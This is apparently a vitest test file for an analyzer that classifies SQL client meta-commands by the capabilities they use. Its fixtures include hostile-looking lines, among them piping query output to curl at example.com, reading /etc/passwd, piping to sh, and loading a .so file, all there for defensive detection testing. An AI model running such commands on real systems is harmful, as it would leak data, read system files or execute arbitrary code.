import { beforeAll, describe, expect, test } from "vitest";
import { loadSql } from "../../../../src/canonicalize/analyzers/sql/analyze.ts";
import { analyze, partsOf } from "./support.ts";

beforeAll(loadSql);

interface Line {
  readonly text: string;
  readonly parse: string;
  readonly parts: readonly string[];
  /** The shell command that the line runs. */
  readonly command?: string;
}

const LINES: readonly Line[] = [
  { text: "\\! id", parse: "complete", parts: ["process.exec"], command: "id" },
  { text: "SELECT a FROM t \\g |sh", parse: "complete", parts: ["db.read t", "process.exec"], command: "sh" },
  {
    text: "\\o |curl -d @- example.com",
    parse: "complete",
    parts: ["process.exec"],
    command: "curl -d @- example.com",
  },
  { text: "\\set x `id`", parse: "complete", parts: ["process.exec"], command: "id" },
  { text: "\\copy t TO PROGRAM 'id'", parse: "complete", parts: ["db.read t", "process.exec"], command: "id" },
  { text: "\\copy t FROM '/etc/passwd'", parse: "complete", parts: ["db.write t", "file.read file:///etc/passwd"] },
  {
    text: "\\copy (SELECT a FROM t) TO '/tmp/x' CSV",
    parse: "complete",
    parts: ["db.read t", "file.write file:///tmp/x"],
  },
  { text: "\\i /tmp/x.sql", parse: "partial", parts: ["db.admin", "file.read file:///tmp/x.sql"] },
  { text: "SELECT 'DROP TABLE t' \\gexec", parse: "partial", parts: ["db.admin", "db.read"] },
  { text: "SELECT 1 \\gset\nSELECT a FROM t;", parse: "complete", parts: ["db.read", "db.read t"] },
  { text: "\\. /tmp/x.sql", parse: "partial", parts: ["db.admin", "file.read file:///tmp/x.sql"] },
  { text: "\\d t", parse: "complete", parts: ["db.read"] },
  { text: "\\pset format csv\nSELECT a FROM t", parse: "complete", parts: ["db.read t"] },
  { text: "SELECT a FROM t\\G", parse: "complete", parts: ["db.read t"] },
  { text: "\\nonsense", parse: "partial", parts: ["db.admin"] },
  {
    text: "COPY t FROM stdin;\n1\tDROP TABLE x\n\\.\nSELECT a FROM u;",
    parse: "complete",
    parts: ["db.read u", "db.write t"],
  },
  { text: ".shell id", parse: "complete", parts: ["process.exec"], command: "id" },
  {
    text: ".mode csv\n.output |sh\nSELECT a FROM t;",
    parse: "complete",
    parts: ["db.read t", "process.exec"],
    command: "sh",
  },
  { text: ".import /etc/passwd t", parse: "complete", parts: ["db.write", "file.read file:///etc/passwd"] },
  { text: ".load /tmp/x.so", parse: "partial", parts: ["file.read file:///tmp/x.so", "process.exec"] },
  { text: ".tables", parse: "complete", parts: [] },
  { text: "!!id", parse: "complete", parts: ["process.exec"], command: "id" },
  { text: ":r /tmp/x.sql", parse: "partial", parts: ["db.admin", "file.read file:///tmp/x.sql"] },
];

describe("a line for the client program", () => {
  test.each(LINES)("$text", ({ text, parse, parts, command }) => {
    const found = analyze(text);
    expect({ parse: found.parse, parts: partsOf(found) }).toEqual({ parse, parts });
    if (command !== undefined) expect(found.facts.commands).toMatchObject([{ program: command, via: ["shell"] }]);
  });
});
